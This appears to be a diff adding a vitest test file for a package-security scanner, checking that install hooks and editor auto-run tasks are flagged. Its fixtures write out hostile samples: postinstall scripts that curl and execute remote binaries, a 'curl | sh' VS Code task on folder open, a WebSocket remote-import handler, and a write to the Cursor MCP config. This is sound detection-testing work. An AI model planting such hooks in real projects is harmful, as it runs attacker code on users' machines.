@@ -1,0 +1,105 @@
+// What an install runs, also through files that it starts, and what editors run by themselves.
+import { expect, test } from 'vitest';
+import { vetTexts } from './vet-fixture.ts';
+
+const GRAVE = new Set(['high', 'critical']);
+const install = (script: string, more: object = {}) =>
+  JSON.stringify({ scripts: { postinstall: script }, ...more });
+const graveIn = (files: Record<string, string>): string[] =>
+  vetTexts(new Map(Object.entries(files)))
+    .threats.filter(({ severity }) => GRAVE.has(severity))
+    .map(({ ruleId }) => ruleId);
+
+const HARMFUL: [string, string, Record<string, string>][] = [
+  [
+    'a shell script that a file of the install starts',
+    'install-script-downloads',
+    {
+      'package.json': install('node pre.js'),
+      'pre.js': "require('child_process').exec('/bin/bash pre.sh');",
+      'pre.sh': 'curl -s http://198.51.100.46/ext -o ext\nchmod +x ext\n./ext --tls &\n',
+    },
+  ],
+  [
+    'a download through variables into a shell',
+    'install-script-downloads',
+    {
+      'package.json': install('sh setup.sh'),
+      'setup.sh':
+        'c=$(command -v curl); u="https://${base}/c"\ncase "$c" in *) "$c" "$u";; esac | sh\n',
+    },
+  ],
+  [
+    'a program that curl writes',
+    'download-and-execute',
+    {
+      'package.json': install('node pre.js'),
+      'pre.js': `const cp = require('child_process');
+        const dst = require('path').join(require('os').tmpdir(), '.simd.js');
+        cp.spawnSync('curl', ['-fsSL', '-o', dst, 'http://198.51.100.24/simd']);
+        cp.spawn(process.execPath, [dst], { detached: true }).unref();`,
+    },
+  ],
+  [
+    'a command that the install script names',
+    'agent-config-write',
+    {
+      'package.json': install('node cli.js welcome'),
+      'cli.js': `const fs = require('fs'), os = require('os'), path = require('path');
+        function welcome() { fs.writeFileSync(path.join(os.homedir(), '.cursor', 'mcp.json'), '{}'); }
+        if (process.argv[2] === 'welcome') welcome();`,
+    },
+  ],
+  [
+    'a module that a message names',
+    'fetched-code-executed',
+    {
+      'index.js': `import WebSocket from 'ws';
+        new WebSocket('wss://live.drop.example').on('message', async (data) => {
+          const { mod, fn, args } = JSON.parse(data);
+          await (await import(mod))[fn](...args);
+        });`,
+    },
+  ],
+  [
+    'a task that runs when a folder is opened',
+    'agent-config-write',
+    {
+      'index.js': `export const files = { '.vscode/tasks.json': { tasks: [{
+        command: 'curl -fsSL https://settings.drop.example/t | sh', runOptions: { runOn: 'folderOpen' } }] } };`,
+    },
+  ],
+];
+
+test.each(HARMFUL)('%s is reported', (_, ruleId, files) => {
+  expect(graveIn(files)).toContain(ruleId);
+});
+
+test.each<[string, Record<string, string>]>([
+  [
+    'a check in a line of package.json that names an address',
+    {
+      'package.json': install(
+        `node -e "if(+process.versions.node.split('.')[0]<18){console.error('needs 18 (fetch from https://nodejs.org)');process.exit(1)}"`,
+      ),
+    },
+  ],
+  [
+    'a command that only a person gives',
+    {
+      'package.json': install('node cli.js version'),
+      'cli.js': `const fs = require('fs'), os = require('os'), path = require('path');
+        function setup() { fs.writeFileSync(path.join(os.homedir(), '.cursor', 'mcp.json'), '{}'); }
+        if (process.argv[2] === 'setup') setup();`,
+    },
+  ],
+  [
+    'a shell script that builds',
+    {
+      'package.json': install('sh build.sh'),
+      'build.sh': 'set -e\nmake -C native\ncp native/out lib/\n',
+    },
+  ],
+])('%s is lawful', (_, files) => {
+  expect(graveIn(files)).toEqual([]);
+});
